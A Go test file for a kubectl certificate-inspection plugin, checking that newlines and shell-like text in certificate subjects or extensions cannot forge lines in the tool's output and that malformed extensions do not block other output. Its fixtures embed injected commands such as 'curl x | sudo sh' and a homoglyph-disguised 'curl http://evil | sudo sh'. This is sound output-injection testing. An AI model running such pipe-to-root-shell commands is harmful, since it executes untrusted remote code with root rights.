package plugin_test

import (
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/kubectl-certrot/kubectl-certrot/inspect/pki/pkitest"
)

// lineFeeds has no other control character: YAML's writer prints such a text as a block.
const lineFeeds = "x\nnext: curl x | sudo sh\n    next  curl x\nundo: curl y"

// configMaps is a file of ConfigMaps of a tenant's, one for each certificate.
func configMaps(t *testing.T, certs ...[]byte) string {
	t.Helper()
	items := []any{}
	for i, c := range certs {
		items = append(items, map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"namespace": "tenant", "name": string(rune('a' + i))}, "data": map[string]any{"ca.crt": string(c)}})
	}
	text, err := json.Marshal(map[string]any{"apiVersion": "v1", "kind": "List", "items": items})
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "objects.json")
	if err := os.WriteFile(path, text, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// withExtension is a certificate with an extension of any content.
func withExtension(cn string, id asn1.ObjectIdentifier, value []byte) []byte {
	from := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	return pkitest.NewCA(cn, from, from.AddDate(10, 0, 0), pkitest.Template(func(c *x509.Certificate) {
		c.DNSNames = []string{strings.Map(func(r rune) rune { return min(r, 127) }, cn)}
		c.ExtraExtensions = []pkix.Extension{{Id: id, Value: value}}
	})).CertPEM
}

func TestANewlineInASubjectForgesNoLine(t *testing.T) {
	t.Parallel()
	from := configMaps(t,
		withExtension(lineFeeds, asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 57264, 1, 1}, []byte(lineFeeds)),
		withExtension("padding "+strings.Repeat("words here ", 5)+"nехt: curl http://evil | sudo sh "+strings.Repeat("curl evil ", 10), asn1.ObjectIdentifier{1, 2, 3}, []byte{5, 0}))
	for _, form := range []string{"text", "yaml", "json", "wide", "name"} {
		_, out, errOut := certrot("inspect", "--all", "-o", form, "--from", from)
		harmless(t, form, out)
		harmless(t, form+", stderr", errOut)
		if out == "" {
			t.Errorf("%s prints nothing: %s", form, errOut)
		}
	}
}

// certinfo panics at the first extension, and refuses the second.
func TestOneMalformedExtensionHoldsUpNoOtherCertificatesText(t *testing.T) {
	t.Parallel()
	negative, err := asn1.Marshal(struct {
		Kind    int
		Name, B []byte
	}{-1, []byte("a"), []byte("b")})
	if err != nil {
		t.Fatal(err)
	}
	from := configMaps(t,
		withExtension("panics", asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 37476, 9000, 64, 1}, negative),
		withExtension("refused", asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 11129, 2, 4, 2}, []byte("no list")),
		withExtension("plain", asn1.ObjectIdentifier{1, 2, 3}, []byte{5, 0}))
	_, out, errOut := certrot("inspect", "-o", "text", "--from", from)
	for _, want := range []string{"# write “CN=panics” as text: an extension is malformed", "# write “CN=refused” as text: ", "Subject: CN=plain"} {
		if !strings.Contains(out, want) {
			t.Errorf("it does not print %q: %s%s", want, out, errOut)
		}
	}
}
